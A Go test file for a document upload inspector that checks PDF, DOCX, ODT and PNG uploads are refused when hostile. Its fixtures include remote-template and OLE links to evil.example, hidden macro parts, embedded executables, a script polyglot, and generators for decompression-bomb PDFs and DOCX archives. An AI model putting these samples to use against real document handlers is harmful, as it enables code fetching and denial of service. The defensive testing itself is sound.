package documents_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image/png"
	"os"
	"strings"
	"testing"
	"time"

	"providerportal/internal/dbtest"
	"providerportal/internal/fault"
	"providerportal/storage/documents"
)

// links is the part with the links of a document.
func links(kind, target, mode string) part {
	return part{"word/_rels/document.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		`<Relationship Id="r1" TargetMode='` + mode + `' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="` + target + `"/></Relationships>`}
}

func typed(name, contentType string) string {
	return strings.Replace(docxTypes, "</Types>", `<Override PartName="`+name+`" ContentType="`+contentType+`"/></Types>`, 1)
}

func wide(text string) string { return strings.Join(strings.Split(text, ""), "\x00") + "\x00" }

// chunkOf is one piece of a PNG, with its own checksum.
func chunkOf(kind, content string) string {
	out := binary.BigEndian.AppendUint32(nil, uint32(len(content)))
	out = append(append(out, kind...), content...)
	return string(binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(out[4:])))
}

// What people send who mean harm, and what their office programs write when they
// mean none; an empty key is a good file.
func TestInspectJudgesHostileFiles(t *testing.T) {
	const compound = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
	shot := picture(png.Encode)
	body := part{"word/document.xml", "<w:document/>"}
	for _, test := range []struct{ title, name, content, key string }{
		{"pdf in an old version", "a.pdf", strings.Replace(pdfWith(""), "1.5", "1.2", 1), ""},
		{"pdf with a form that computes", "a.pdf", pdfWith("1 0 obj\n<</AcroForm<</XFA 5 0 R>>>>\nendobj"), "document.actions"},
		{"pdf that fetches its fields", "a.pdf", pdfWith("1 0 obj\n<</A<</S/ImportData/F(x)>>>>\nendobj"), "document.actions"},
		{"pdf with a file in it", "a.pdf", pdfWith("5 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream"), "document.attachments"},
		{"pdf with a packed list of files", "a.pdf", objectStream("/Filter/FlateDecode", deflated("<</Names<</Embedded#46iles 5 0 R>>>>")), "document.attachments"},
		{"pdf behind a page with script", "a.pdf", "<script>alert(1)</script><!--" + pdfWith(""), "document.wrong-type"},

		{"docx of Word on the web", "a.docx", archive(part{"[Content_Types].xml", strings.Replace(docxTypes, "document.xml", "document2.xml", 1)}, part{"word/document2.xml", "<w:document/>"}), ""},
		{"docx with a link to a page", "a.docx", docx(links("hyperlink", "https://venlo.nl", "External")), ""},
		{"docx with the office's template", "a.docx", docx(links("attachedTemplate", `file:///C:\Sjablonen\Brief.dotx`, "External")), ""},
		{"docx with a template on the web", "a.docx", docx(links("attachedTemplate", "&#104;ttp://evil.example/x.dotm", "External")), "document.remote"},
		{"docx with an object on the web", "a.docx", docx(links("oleObject", "mhtml:http://evil.example/x!x", "External")), "document.remote"},
		{"docx with macros under another name", "a.docx", archive(part{"[Content_Types].xml", typed("/word/x.bin", "application/vnd.ms-office.vbaProject")}, body, part{"word/x.bin", "x"}), "document.macros"},
		{"docx with a control elsewhere", "a.docx", archive(part{"[Content_Types].xml", typed("/word/a/x.xml", "application/vnd.ms-office.activeX+xml")}, body), "document.macros"},
		{"docx with a packed file", "a.docx", docx(part{"word/embeddings/x.bin", compound + strings.Repeat("x", 70_000) + wide("\x01Ole10Native")}), "document.macros"},
		{"docx with an old table with macros", "a.docx", docx(part{"word/embeddings/x.xls", compound + strings.Repeat("x", 32<<10-9) + wide("_VBA_PROJECT")}), "document.macros"},
		{"docx that is also another", "a.docx", strings.Replace(docx(), "word/document.xml", "word/nocument.xml", 1), "document.wrong-type"},
		{"docx template renamed", "a.docx", archive(part{"[Content_Types].xml", strings.Replace(docxTypes, "document.main", "template.main", 1)}, body), "document.wrong-type"},

		{"odt with a password, all packed", "a.odt", archive(part{"mimetype", "application/vnd.oasis.opendocument.text"}, part{"encrypted-package", "x"}, part{"META-INF/manifest.xml", "<manifest:encryption-data/>"}), "document.encrypted"},
		{"odt with an object of another program", "a.odt", odt("<manifest/>", part{"Object 1", compound}), "document.macros"},
		{"odt template renamed", "a.odt", strings.ReplaceAll(odt("<manifest/>"), "opendocument.text", "opendocument.text-template"), "document.truncated"},

		{"png with a byte changed", "a.png", strings.Replace(shot, "IDAT", "IDAT\x00", 1), "document.truncated"},
		{"png without a picture", "a.png", shot[:33] + chunkOf("IEND", ""), "document.truncated"},
		{"png with a remark", "a.png", shot[:33] + chunkOf("tEXt", "Comment\x00<script>") + shot[33:], ""},
	} {
		t.Run(test.title, func(t *testing.T) {
			got := ""
			if refusal := fault.Of(documents.Inspect(test.name, []byte(test.content))); refusal != nil {
				got = refusal.Fields[0].Key
			}
			if got != test.key {
				t.Errorf("refused with %q, want %q", got, test.key)
			}
		})
	}
}

// A file of some megabytes that makes who reads it do the same work a thousand
// times over is refused at once.
func TestInspectEndsSoon(t *testing.T) {
	for name, content := range map[string]string{"a.pdf": nestedPDF(1500), "a.docx": layeredDOCX(1900)} {
		begun := time.Now()
		err := documents.Inspect(name, []byte(content))
		if took := time.Since(begun); took > 2*time.Second || !fault.Is(err, fault.KindInvalid) {
			t.Errorf("%s: %v after %s", name, err, took)
		}
	}
}

// nothing is a stretch of packed bytes that unpacks to none.
var nothing = strings.Repeat("\x00\x00\x00\xff\xff", 1<<20)

// nestedPDF holds packed objects that each begin in the one before, and all go on
// to the same end.
func nestedPDF(times int) string {
	var file strings.Builder
	const begin = "\n5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n\x78\x9c"
	file.WriteString(begin)
	for range times {
		length := binary.LittleEndian.AppendUint16([]byte{0}, uint16(len(begin)))
		file.Write(binary.LittleEndian.AppendUint16(length, ^uint16(len(begin))))
		file.WriteString(begin)
	}
	file.WriteString(nothing + "\x01\x00\x00\xff\xff\x00\x00\x00\x01\nendstream\n")
	return pdfWith(file.String())
}

// layeredDOCX holds parts that each begin in the one before, and all go on to the
// same end. Every name and checksum in its list is right.
func layeredDOCX(times int) string {
	const name, local, entry = "word/m/0000", 30, 46
	good := []byte(docx())
	end := bytes.LastIndex(good, []byte("PK\x05\x06"))
	begin := int(binary.LittleEndian.Uint32(good[end+16:]))
	file, list := bytes.Clone(good[:begin]), bytes.Clone(good[begin:end])
	heads := make([][]byte, times)
	for i := range heads {
		heads[i] = append(make([]byte, local), fmt.Sprintf("word/m/%04d", i)...)
		copy(heads[i], "PK\x03\x04\x14\x00\x00\x00\x08\x00")
		heads[i][26] = byte(len(name))
		heads[i] = append(heads[i], "\x00\x01\x00\xfe\xffx"...) // a part that does not look like an archive
	}
	behind := len(nothing) + 5
	plain := make([]string, times) // what each unpacks to
	plain[times-1] = "x"
	for i := times - 2; i >= 0; i-- {
		plain[i] = "x" + string(heads[i+1][:local+len(name)]) + plain[i+1]
	}
	for i, head := range heads {
		if i > 0 { // the packed bytes of the part before quote this one
			file = binary.LittleEndian.AppendUint16(append(file, 0), local+uint16(len(name)))
			file = binary.LittleEndian.AppendUint16(file, ^(local + uint16(len(name))))
		}
		left := times - 1 - i
		line := append(make([]byte, entry), head[local:local+len(name)]...)
		copy(line, "PK\x01\x02\x14\x00\x14\x00\x00\x00\x08\x00")
		binary.LittleEndian.PutUint32(line[16:], crc32.ChecksumIEEE([]byte(plain[i])))
		binary.LittleEndian.PutUint32(line[20:], uint32(6+left*(len(head)+5)+behind))
		binary.LittleEndian.PutUint32(line[24:], uint32(len(plain[i])))
		line[28] = byte(len(name))
		binary.LittleEndian.PutUint32(line[42:], uint32(len(file)))
		list, file = append(list, line...), append(file, head...)
	}
	file = append(file, nothing+"\x01\x00\x00\xff\xff"...)
	record := bytes.Clone(good[end:])
	for _, at := range []int{8, 10} {
		binary.LittleEndian.PutUint16(record[at:], uint16(times+2))
	}
	binary.LittleEndian.PutUint32(record[12:], uint32(len(list)))
	binary.LittleEndian.PutUint32(record[16:], uint32(len(file)))
	return string(append(append(file, list...), record...))
}

// A refused file of any of these kinds leaves a row that says why, and no bytes.
func TestHostileFileLeavesNothing(t *testing.T) {
	db := dbtest.Tx(t)
	vault := smallVault(t, db)
	vault.SpoolDir = t.TempDir()
	_, err := vault.Receive(context.Background(), someone(), "a.docx", strings.NewReader(docx(links("oleObject", "http://x.example", "External"))))
	wantRefusal(t, err, "document.remote", nil)
	left := rows(t, db)
	if len(left) != 1 || left[0].State != documents.StateRefused || left[0].Refusal != "document.remote" {
		t.Fatalf("rows: %+v", left)
	}
	wantNothing(t, vault.Store, objectKey(left[0].ID))
	if spooled, err := os.ReadDir(vault.SpoolDir); err != nil || len(spooled) > 0 {
		t.Errorf("on the disk: %v (%v)", spooled, err)
	}
}
